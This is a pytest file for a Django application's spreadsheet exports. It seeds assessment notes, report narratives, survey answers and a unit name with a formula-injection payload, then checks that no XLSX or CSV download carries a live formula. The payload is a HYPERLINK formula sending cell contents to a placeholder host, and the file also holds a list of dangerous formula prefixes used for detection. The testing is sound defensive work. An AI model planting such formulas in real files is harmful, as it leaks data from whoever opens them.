"""No export ever hands a reader a live formula.

A formula typed into every free-text field a unit controls (assessment notes, evidence references,
explanations, plan progress notes, periodic report narratives, survey answers) must come out of
every XLSX and CSV download as text: no cell is a formula (openpyxl's data type "f"), and no text
starting like a formula is left unmarked (core/spreadsheets.py: quote prefix in XLSX, apostrophe in
CSV). The results' own exports (a publication's open data, the workbook, the awards) are checked
with a unit whose name is such a formula.
"""

import csv
import io
import uuid
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import AuditEvent
from conftest import item_of

ATTACK = '=HYPERLINK("http://example.invalid/?"&A2,"x")'
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def unsafe_cells(content: bytes, name: str) -> tuple[list[str], int]:
    """(the cells a spreadsheet could evaluate, how many cells hold the attack text) of a download."""
    unsafe, attacks = [], 0
    if name.endswith(".csv"):
        for number, row in enumerate(csv.reader(io.StringIO(content.decode("utf-8-sig"))), 1):
            for value in row:
                unsafe += (
                    [f"{name} line {number}: {value!r}"] if value.startswith(DANGEROUS) else []
                )
                attacks += value == "'" + ATTACK
        return unsafe, attacks
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                text = cell.value if isinstance(cell.value, str) else ""
                if cell.data_type == "f" or (text.startswith(DANGEROUS) and not cell.quotePrefix):
                    unsafe.append(f"{name} {sheet.title}!{cell.coordinate}: {cell.value!r}")
                attacks += text == ATTACK
    return unsafe, attacks


def download(client, user, url: str, name: str) -> tuple[list[str], int]:
    client.force_login(user)
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return unsafe_cells(b"".join(response) if response.streaming else response.content, name)


@pytest.fixture
def unit_text_everywhere(secretariat, officer_a, officer_b, unit_a, unit_b, assessment_a):
    """The attack in every free-text field Unit A (and Unit B, the plan task's lead) controls."""
    from assessments import services as assessments
    from plans import services as plans
    from plans.models import Plan, Task
    from reporting import services as reporting
    from reporting.models import NarrativeText, ReportState
    from reporting.requests import request_report
    from surveys import services as surveys
    from surveys.tests.conftest import good_answers, tsv

    item = item_of(assessment_a, "1.5")
    assessments.save_self(officer_a, item, inputs={"points": "0.5"}, note=ATTACK)
    assessments.add_evidence_reference(
        officer_a, item, doc_number=ATTACK, issuer=ATTACK, link="http://example.invalid/"
    )
    item.refresh_from_db()
    item.explanation = ATTACK
    item.na_reason = ATTACK
    item.save(update_fields=["explanation", "na_reason"])
    AuditEvent.objects.create(
        actor=officer_a,
        action="item.explain",
        object_type="assessments.item",
        object_id=str(item.pk),
        after={"explanation": ATTACK},
        reason=ATTACK,
    )

    plan = Plan.objects.create(
        year=2025, decision_number="6830/QĐ-UBND", decision_date=timezone.localdate(), title="KH"
    )
    task = Task.objects.create(plan=plan, number="1", title="Nhiệm vụ", lead_text="Sở Tư pháp")
    task.lead_units.add(unit_b)
    plans.update_task(officer_b, task, status="in_progress", progress_note=ATTACK)

    template = reporting.save_template(
        secretariat,
        "Mẫu",
        [{"code": "a", "label": "A", "is_rate": False, "unit_of_measure": ""}],
        [{"code": "n", "title": "Kết quả"}],
    )
    period = reporting.open_period(
        secretariat, 2025, "q1", template, timezone.now() + timedelta(days=3)
    )
    report = reporting.report_for(period, unit_a)
    report.state = ReportState.SUBMITTED
    report.save(update_fields=["state"])
    NarrativeText.objects.create(report=report, section=template.sections.get(), text=ATTACK)
    request = request_report(
        secretariat, "Báo cáo tổng kết", template, timezone.now() + timedelta(days=3), [unit_a]
    )
    answer = reporting.report_for(request, unit_a)
    answer.state = ReportState.SUBMITTED
    answer.save(update_fields=["state"])
    NarrativeText.objects.create(report=answer, section=template.sections.get(), text=ATTACK)

    version = surveys.import_questionnaire(secretariat, "sipas", "SIPAS", tsv(), "sipas.tsv")
    now = timezone.now()
    wave = surveys.create_wave(
        secretariat,
        assessment_a.cycle,
        version,
        "SIPAS",
        now - timedelta(days=1),
        now + timedelta(days=9),
    )
    surveys.set_targets(secretariat, wave, {unit_a: 100})
    surveys.submit_response(
        wave=wave,
        unit=unit_a,
        submission_id=uuid.uuid4(),
        answers=good_answers(harassed="some", harassed_detail=ATTACK),
        channel="link",
    )
    return {"wave": wave, "framework": assessment_a.framework, "request": request}


def test_no_download_carries_a_unit_s_text_as_a_formula(
    client, secretariat, officer_a, officer_b, unit_text_everywhere
):
    wave = unit_text_everywhere["wave"].pk
    request = unit_text_everywhere["request"].pk
    # (who downloads, URL, file name, whether the unit's text is in it)
    downloads = [
        (officer_b, reverse("plans:export", args=[2025]), "plan.xlsx", True),
        (secretariat, reverse("reporting:export_excel", args=[2025, "q1"]), "city.xlsx", True),
        (secretariat, reverse("reporting:request_excel", args=[request]), "request.xlsx", True),
        (officer_a, reverse("assessments:history_export", args=[2025, "00070"]), "h.xlsx", True),
        (
            secretariat,
            reverse("surveys:export_responses", args=[wave]) + "?format=csv",
            "r.csv",
            True,
        ),
        (
            secretariat,
            reverse("surveys:export_responses", args=[wave]) + "?format=xlsx",
            "r.xlsx",
            True,
        ),
        (secretariat, reverse("surveys:export_aggregates", args=[wave]), "agg.xlsx", False),
        (
            secretariat,
            reverse("surveys:questionnaire_download", args=["sipas", 1]),
            "q.xlsx",
            False,
        ),
        (
            secretariat,
            reverse("surveys:questionnaire_xlsform", args=["sipas", 1]),
            "xlsform.xlsx",
            False,
        ),
        (
            officer_a,
            reverse("frameworks:export", args=[unit_text_everywhere["framework"].pk]),
            "fw.xlsx",
            False,
        ),
    ]
    problems = []
    for user, url, name, carries_attack in downloads:
        unsafe, attacks = download(client, user, url, name)
        problems += unsafe
        # The attack really is in the file, as the very text the unit typed.
        assert bool(attacks) == carries_attack, (name, attacks)
    # Fresh invitation codes come as a CSV answer to a POST.
    client.force_login(secretariat)
    codes = client.post(
        reverse("surveys:invitations", args=[wave]), {"unit": "00070", "count": 2, "format": "csv"}
    )
    assert codes.status_code == 200
    problems += unsafe_cells(codes.content, "codes.csv")[0]
    assert problems == [], "\n".join(problems)


@pytest.fixture
def published_with_attack(secretariat, unit_a, unit_b):
    from results.services import publish
    from results.tests.published import SHARES, extra_units, finalise, make_cycle

    unit_b.name = ATTACK  # a department: its name is shown as it is, without a ward's prefix
    unit_b.save(update_fields=["name"])
    cycle = finalise(
        secretariat, make_cycle(secretariat, 2025, [unit_a, unit_b, *extra_units()]), SHARES
    )
    publish(secretariat, cycle)
    return cycle


def test_no_results_download_carries_a_name_as_a_formula(
    client, secretariat, published_with_attack, django_capture_on_commit_callbacks
):
    from results.models import Job, JobKind

    client.force_login(secretariat)
    with django_capture_on_commit_callbacks(execute=True):  # the job runs once the request commits
        response = client.post(
            reverse("results:request_job", args=[2025]), {"kind": JobKind.WORKBOOK}
        )
    assert response.status_code == 302
    job = Job.objects.get(kind=JobKind.WORKBOOK)
    downloads = [
        (reverse("results:job_file", args=[2025, job.pk]), "workbook.xlsx"),
        (reverse("results:awards", args=[2025]), "awards.xlsx"),
        (reverse("results:review_xlsx"), "review.xlsx"),
        (reverse("public:data", args=[2025, "xlsx"]), "data.xlsx"),
        (reverse("public:data", args=[2025, "csv"]), "data.csv"),
    ]
    problems = []
    for url, name in downloads:
        unsafe, attacks = download(client, secretariat, url, name)
        problems += unsafe
        assert attacks, name
    assert problems == [], "\n".join(problems)
